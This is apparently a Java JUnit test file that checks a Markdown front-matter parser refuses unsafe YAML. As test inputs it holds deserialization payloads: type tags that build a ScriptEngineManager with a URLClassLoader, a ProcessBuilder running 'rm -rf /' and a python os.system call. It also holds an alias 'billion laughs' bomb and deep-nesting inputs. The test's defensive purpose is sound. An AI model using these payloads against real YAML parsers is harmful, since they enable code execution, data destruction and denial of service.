package wenku.content;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import wenku.problem.Problem;

/**
 * Front matter is read as plain data only: no type tags, no object construction, bounded aliases, size and
 * nesting; every mistake is reported with the file and the line it is on.
 */
class FrontMatterSafetyTest {

    static FrontMatterParser.Split split(String text) {
        return org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> FrontMatterParser.split("安全/规程.md", text));
    }

    static void assertReported(String text, int line, String... words) {
        FrontMatterParser.Split s = split(text);
        List<Problem> errors = s.problems().stream().filter(Problem::isError).toList();
        assertTrue(errors.stream().anyMatch(p -> p.file().equals("安全/规程.md") && p.line() == line
                && List.of(words).stream().allMatch(w -> p.message().contains(w))),
                "want an error at line " + line + " mentioning " + List.of(words) + ", got " + s.problems());
    }

    @Test
    void typeTagsThatWouldConstructObjectsAreRefused() {
        assertReported("---\ntitle: 规程\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.invalid/\"]]]]\n---\n",
                3, "type tag");
        assertReported("---\nx: !!java.lang.ProcessBuilder [[\"rm\", \"-rf\", \"/\"]]\n---\n", 2, "type tag");
        assertReported("---\nx: !!python/object/apply:os.system [\"id\"]\n---\n", 2, "type tag");
        assertReported("---\n!!java.io.File a: b\n---\n", 2, "type tag");
        assertReported("---\nx: !local 1\n---\n", 2, "type tag");
        assertReported("---\nx: !!binary aGVsbG8=\n---\n", 2, "type tag");
        assertReported("---\nx: !<tag:yaml.org,2002:java.util.Date> 1\n---\n", 2, "type tag");
        assertReported("---\nx: !!map {a: !!set {b}}\n---\n", 2, "type tag");
    }

    @Test
    void harmlessStandardTagsAreFine() {
        FrontMatterParser.Split s = split("---\ntitle: !!str 123\nweight: !!int 5\ntags: !!seq [甲, 乙]\n---\n");
        assertEquals(List.of(), s.problems());
        assertEquals("123", s.frontMatter().title());
        assertEquals(5, s.frontMatter().weight());
    }

    @Test
    void aliasBombsAreRefusedQuickly() {
        StringBuilder laughs = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            laughs.append(c).append(": &").append(c).append(" [*").append(p);
            for (int i = 0; i < 8; i++) laughs.append(",*").append(p);
            laughs.append("]\n");
        }
        laughs.append("---\n正文\n");
        FrontMatterParser.Split s = split(laughs.toString());
        assertTrue(s.problems().stream().anyMatch(p -> p.isError() && p.message().contains("alias")), s.problems().toString());
        assertEquals("正文\n", s.body(), "the body is still read");
    }

    @Test
    void hugeFrontMatterIsRefused() {
        String big = "---\ntitle: 大\nsummary: " + "很长的摘要".repeat(20_000) + "\n---\n正文\n";
        assertReported(big, 1, "limit");
        assertEquals("正文\n", split(big).body());
    }

    @Test
    void deepNestingIsRefusedNotOverflowed() {
        String deep = "---\nx: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n---\n";
        FrontMatterParser.Split s = split(deep);
        assertTrue(s.problems().stream().anyMatch(p -> p.isError() && p.line() >= 1), s.problems().toString());
        String block = new StringBuilder("---\n").append(nestedMapping(200)).append("---\n").toString();
        assertTrue(split(block).problems().stream().anyMatch(p -> p.message().contains("nested")), split(block).problems().toString());
    }

    static String nestedMapping(int depth) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < depth; i++) sb.append("  ".repeat(i)).append("k").append(i).append(":\n");
        sb.append("  ".repeat(depth)).append("v\n");
        return sb.toString();
    }

    @Test
    void wrongTypesAreReportedAtTheirLine() {
        String fm = "---\ntitle: [甲, 乙]\ndate: 明天\nweight: 很重\ndraft: 也许\ntags: {a: b}\nupdated: [2024-01-01]\n---\n正文\n";
        assertReported(fm, 2, "title");
        assertReported(fm, 3, "date", "明天");
        assertReported(fm, 4, "weight");
        assertReported(fm, 5, "draft");
        assertReported(fm, 6, "tags");
        assertReported(fm, 7, "updated");
        FrontMatterParser.Split s = split(fm);
        assertNull(s.frontMatter().date());
        assertEquals("正文\n", s.body());
    }

    @Test
    void unclosedBlockIsReportedAndTheFileStillReads() {
        assertReported("---\ntitle: 规程\n\n# 第一章\n", 1, "never closed");
        assertReported("---", 1, "never closed");
    }

    @Test
    void invalidYamlIsReportedWithItsLine() {
        assertReported("---\ntitle: 规程\nauthor: 张三: 李四\n---\n", 3, "YAML");
        assertReported("---\ntitle: 规程\n\ttags: [a]\n---\n", 3, "YAML");
        assertReported("---\ntitle: \"未闭合\n---\n正文\n", 2, "YAML");
        assertReported("---\n- 一\n- 二\n---\n", 2, "key: value");
        assertReported("---\ntitle: 一\ntitle: 二\n---\n", 3, "twice");
        assertReported("---\n? [a, b]\n: c\n---\n", 2, "keys");
    }

    @Test
    void crlfFrontMatterIsReadLikeLf() throws Exception {
        String text = TextDecoder.decode("---\r\ntitle: 规程\r\ndate: 2024-05-01\r\n---\r\n正文\r\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)).text();
        FrontMatterParser.Split s = split(text);
        assertEquals(List.of(), s.problems());
        assertEquals("规程", s.frontMatter().title());
        assertEquals(5, s.bodyLine());
    }
}
